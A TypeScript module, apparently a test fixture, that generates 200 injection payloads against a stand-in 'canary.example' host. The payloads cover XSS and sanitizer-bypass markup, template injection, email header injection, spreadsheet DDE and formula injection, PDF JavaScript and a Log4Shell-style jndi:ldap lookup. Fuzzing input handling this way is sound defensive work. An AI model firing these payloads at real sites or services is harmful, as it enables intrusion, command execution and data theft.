/** Two hundred injection payloads. */

/** Where what runs would send its word; no test and no page ever asks for it otherwise. */
export const canary = 'canary.example'

/** What each does when it runs: it calls the trap, opens a dialog, or asks the canary for something. */
const deeds = [
  (n: number) => `__hit(${n})`,
  (n: number) => `alert(${n})`,
  (n: number) => `fetch('//${canary}/${n}')`,
  (n: number) => `self[\`__hit\`](${n})`,
]

const rightToLeft = '\u202E'
const zeroWidth = '\u200B'

/** Ways into a page, a script, an attribute, a style, an address, a template, an email header, a spreadsheet, a PDF. */
const ways: readonly ((deed: string, n: number) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `'/><ScRiPt >${deed}</sCrIpT>`,
  (deed) => `</script><script>${deed}</script>`,
  (deed) => `</title></textarea></style><script>${deed}</script>`,
  (deed) => `--><script>${deed}</script><!--`,
  (deed) => `]]><script>${deed}</script>`,
  (deed) => `<<script>script>${deed}<</script>/script>`,
  (deed, n) => `<script src=//${canary}/${n}.js></script>${deed}`,
  (deed) => `<img src=x onerror=${deed}>`,
  (deed) => `"><img src=x onerror="${deed}">`,
  (deed) => `<img/src='x'/onerror=${deed}//`,
  (deed) => `<svg onload=${deed}>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  (deed) => `<svg><a href="javascript:${deed}"><text y=20>Open</text></a></svg>`,
  (deed) => `<svg><foreignObject><img src=x onerror=${deed}></foreignObject></svg>`,
  (deed) => `<body onload=${deed}>`,
  (deed) => `<details open ontoggle=${deed}><summary>x</summary></details>`,
  (deed) => `<input autofocus onfocus=${deed}>`,
  (deed) => `<video><source onerror=${deed}></video>`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  (deed) => `<iframe src="javascript:parent.${deed}"></iframe>`,
  (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  (deed) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${deed}&gt;">`,
  (deed) => `<svg></p><style><a id="</style><img src=1 onerror=${deed}>">`,
  (deed) => `<a href="javascript:${deed}">Open</a>`,
  (deed) => `javascript:${deed}//`,
  (deed) => `java\tscript:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `[Open](javascript:${deed})`,
  (deed) => `![x](x"onerror="${deed})`,
  (deed) => `{{constructor.constructor('${deed.replaceAll("'", '"')}')()}}`,
  (deed) => `\${${deed}}<%= ${deed} %>#{${deed}}`,
  (deed) => `';${deed};//";${deed};//\`;${deed};//`,
  (deed) => `" onmouseover="${deed}" autofocus onfocus="${deed}" x="`,
  (deed, n) => `<style>@import '//${canary}/${n}';*{background:url(//${canary}/${n})}</style>${deed}`,
  (deed, n) =>
    `<link rel=stylesheet href=//${canary}/${n}><meta http-equiv=refresh content=0;url=//${canary}/${n}>${deed}`,
  (deed, n) =>
    `<base href=//${canary}/><object data=//${canary}/${n}></object><embed src=//${canary}/${n}>${deed}`,
  (deed, n) => `Hi\r\nBcc: n${n}@${canary}\r\nContent-Type: text/html\r\n\r\n<script>${deed}</script>`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;&#60;img src=x onerror=${deed}&#62;`,
  (deed) => `%3Cscript%3E${deed}%3C/script%3E\\u003cscript\\u003e${deed}\\u003c/script\\u003e`,
  (deed) => `${rightToLeft}<script>${deed}</script>\u202C`,
  (deed) => `${zeroWidth}\uFF1Cscript\uFF1E${deed}\uFF1C/script\uFF1E<\u0130mg src=x onerror=${deed}>`,
  (deed, n) => `=HYPERLINK("//${canary}/${n}","${deed.replaceAll('"', "'")}")`,
  (deed, n) => `@SUM(1+${n})*cmd|' /C ${deed}'!A0`,
  (deed, n) => `-${n}+cmd|' /C ${deed}'!A0`,
  (deed, n) => `+${n}+IMPORTXML("//${canary}/${n}","${deed.replaceAll('"', "'")}")`,
  (deed, n) => `) /OpenAction << /S /JavaScript /JS (app.alert(${n}); ${deed}) >> /URI (//${canary}/${n}) (`,
  (deed, n) =>
    `__proto__ constructor.prototype ]) >> endobj ${n} 0 obj ${deed} \${jndi:ldap://${canary}/${n}}`,
]

/** All of them, each with its number in it. */
export const payloads: readonly string[] = deeds.flatMap((deed, turn) =>
  ways.map((way, index) => {
    const n = turn * ways.length + index
    return way(deed(n), n)
  }),
)
